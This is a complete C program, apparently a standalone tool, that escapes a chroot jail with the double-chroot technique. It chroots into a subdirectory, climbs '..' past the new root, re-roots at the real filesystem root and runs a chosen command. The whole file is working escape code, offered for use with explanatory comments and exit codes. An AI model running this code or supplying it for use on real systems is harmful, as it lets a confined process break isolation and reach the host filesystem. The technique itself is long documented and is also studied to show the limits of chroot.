/* chroot-escape [COMMAND...]: out of a chroot, by a second one. Then runs COMMAND there ("ls /").
 *
 * The kernel stops ".." at one place only: the process's root directory. A second chroot(2) puts
 * that deeper into the tree and leaves the working directory where it is, which is now above it. On
 * the way up the kernel waits for a root that never comes.
 *
 * Needs CAP_SYS_CHROOT. Ends with 1 when the way up ends at the root that it began with, with 2
 * when chroot(2) itself was refused. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

enum { DEEPEST = 1024, STOPPED = 1, NOT_TRIED = 2 };

static int same(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char **argv)
{
    char *ls[] = {"ls", "/", NULL};
    struct stat before, after;

    if (chdir("/") < 0 || stat(".", &before) < 0 || chroot("tmp") < 0) {
        perror("chroot-escape: cannot try");
        return NOT_TRIED;
    }
    for (int i = 0; i < DEEPEST; i++)
        if (chdir("..") < 0)
            break;
    if (stat(".", &after) < 0 || same(&before, &after)) {
        puts("I went up and up, and came to the root that I had.");
        return STOPPED;
    }
    puts("I am out.");
    fflush(stdout);
    if (chroot(".") == 0)
        execvp(argc > 1 ? argv[1] : ls[0], argc > 1 ? argv + 1 : ls);
    perror("chroot-escape: cannot go on");
    return NOT_TRIED;
}
